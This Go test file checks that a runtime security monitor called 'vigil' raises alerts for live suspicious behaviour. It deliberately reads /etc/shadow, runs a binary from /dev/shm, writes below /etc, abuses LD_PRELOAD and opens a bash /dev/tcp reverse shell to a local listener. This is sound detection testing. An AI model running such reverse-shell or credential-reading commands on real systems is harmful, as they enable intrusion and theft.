package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// startRun runs `vigil run --format json` in-process and returns a channel
// of the alerts it prints, decoded.
func startRun(t *testing.T, args ...string) <-chan map[string]any {
	t.Helper()
	alerts, _ := startRunLog(t, args...)
	return alerts
}

// startRunLog is startRun that also returns vigil's stderr (its log).
func startRunLog(t *testing.T, args ...string) (<-chan map[string]any, *syncBuffer) {
	t.Helper()
	pr, pw := io.Pipe()
	stderr := &syncBuffer{}
	ctx, cancel := context.WithCancel(context.Background())
	exit := make(chan int, 1)
	lockFile := filepath.Join(t.TempDir(), "vigil.lock")
	go func() {
		exit <- run(ctx, append([]string{"run", "--format", "json", "--lock-file", lockFile}, args...), pw, stderr)
		pw.Close()
	}()
	alerts := make(chan map[string]any, 1024)
	go func() {
		sc := bufio.NewScanner(pr)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var a map[string]any
			if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
				t.Errorf("alert is not JSON: %s", sc.Bytes())
				continue
			}
			alerts <- a
		}
		close(alerts)
	}()
	waitUntil(t, "ready", func() bool {
		select {
		case code := <-exit:
			t.Fatalf("vigil run exited %d:\n%s", code, stderr.String())
		default:
		}
		return strings.Contains(stderr.String(), "ready")
	})
	t.Cleanup(func() {
		cancel()
		select {
		case code := <-exit:
			if code != 0 {
				t.Errorf("vigil run exit %d:\n%s", code, stderr.String())
			}
		case <-time.After(15 * time.Second):
			t.Error("vigil run did not stop")
		}
	})
	return alerts, stderr
}

// waitAlert returns the first alert of rule for process pid.
func waitAlert(t *testing.T, alerts <-chan map[string]any, rule string, pid int) map[string]any {
	t.Helper()
	return waitAlertWhere(t, alerts, fmt.Sprintf("%s for pid %d", rule, pid), rule, func(ev map[string]any) bool { return ev["proc.pid"] == float64(pid) })
}

// waitAlertWhere returns the first alert of rule whose event satisfies ok
// (what describes it in the failure).
func waitAlertWhere(t *testing.T, alerts <-chan map[string]any, what, rule string, ok func(ev map[string]any) bool) map[string]any {
	t.Helper()
	deadline := time.After(20 * time.Second)
	for {
		select {
		case a, open := <-alerts:
			if !open {
				t.Fatalf("alert stream ended before %s", what)
			}
			ev, _ := a["event"].(map[string]any)
			if a["rule"] == rule && ok(ev) {
				return a
			}
		case <-deadline:
			t.Fatalf("no alert %s within 20s", what)
		}
	}
}

func copyExe(t *testing.T, src, dst string) {
	t.Helper()
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(dst) })
}

// Real behaviours judged by the built-in rules, live.
func TestRunBuiltinAlerts(t *testing.T) {
	needRoot(t)
	alerts := startRun(t)
	dir, _ := filepath.EvalSymlinks(t.TempDir())

	// A program named like a web server reads /etc/shadow.
	nginx := filepath.Join(dir, "nginx")
	copyExe(t, "/bin/cat", nginx)
	cmd := exec.Command(nginx, "/etc/shadow")
	cmd.Stdout = io.Discard
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	a := waitAlert(t, alerts, "Read sensitive file by untrusted program", cmd.Process.Pid)
	fields := a["output_fields"].(map[string]any)
	ev := a["event"].(map[string]any)
	if a["priority"] == "" || a["source"] != "syscall" || a["action"] != "alert" || fields["file.path"] != "/etc/shadow" ||
		fields["proc.name"] != "nginx" || ev["proc.exe"] != nginx || ev["proc.ppid"] != float64(os.Getpid()) {
		t.Errorf("alert: %v", a)
	}
	if !strings.Contains(a["output"].(string), "/etc/shadow") {
		t.Errorf("output %q does not name the file", a["output"])
	}

	// A binary executed from /dev/shm.
	shm := fmt.Sprintf("/dev/shm/vigil-test-%d", os.Getpid())
	copyExe(t, "/bin/true", shm)
	cmd = exec.Command(shm)
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	a = waitAlert(t, alerts, "Execution from /dev/shm", cmd.Process.Pid)
	if ev := a["event"].(map[string]any); ev["proc.exe"] != shm {
		t.Errorf("exec from /dev/shm: %v", a)
	}

	// A shell writes a new file below /etc.
	etc := fmt.Sprintf("/etc/vigil-test-%d", os.Getpid())
	t.Cleanup(func() { os.Remove(etc) })
	cmd = exec.Command("/bin/sh", "-c", "echo x > "+etc)
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	a = waitAlert(t, alerts, "Write below etc", cmd.Process.Pid)
	if ev := a["event"].(map[string]any); ev["file.path"] != etc || ev["file.write"] != true {
		t.Errorf("write below etc: %v", a)
	}

	// A program started with LD_PRELOAD from /tmp: the built-in rule reads
	// proc.env, so vigil collects environments; a secret's value is not kept.
	cmd = exec.Command("/bin/true")
	cmd.Env = []string{"LD_PRELOAD=/tmp/vigil-test.so", "API_TOKEN=s3cr3t"}
	cmd.Run() // the loader warns about the missing library
	a = waitAlert(t, alerts, "Dynamic loader environment variable abuse", cmd.Process.Pid)
	env, _ := a["event"].(map[string]any)["proc.env"].(map[string]any)
	if env["LD_PRELOAD"] != "/tmp/vigil-test.so" || env["API_TOKEN"] != "" || len(env) != 2 {
		t.Errorf("proc.env in the alert: %v", env)
	}
	if strings.Contains(fmt.Sprint(a), "s3cr3t") {
		t.Errorf("the alert carries a secret value: %v", a)
	}

	// A reverse shell: bash puts a TCP connection on its stdin and stdout.
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		if conn, err := l.Accept(); err == nil {
			conn.Write([]byte("exit\n"))
			io.Copy(io.Discard, conn)
			conn.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	cmd = exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	timer := time.AfterFunc(20*time.Second, func() { cmd.Process.Kill() })
	defer timer.Stop()
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("reverse shell: %v %s", err, out)
	}
	a = waitAlertWhere(t, alerts, "reverse shell", "Network socket redirected to standard input or output", func(ev map[string]any) bool {
		return ev["proc.ppid"] == float64(cmd.Process.Pid)
	})
	ev = a["event"].(map[string]any)
	if a["priority"] != "Critical" || ev["evt.type"] != "dup" || ev["net.dip"] != "127.0.0.1" || ev["net.dport"] != float64(port) ||
		ev["proc.name"] != "bash" || !strings.Contains(a["output"].(string), fmt.Sprintf("connection=127.0.0.1:%d", port)) {
		t.Errorf("reverse shell alert: %v", a)
	}
}

var execCommand = exec.Command
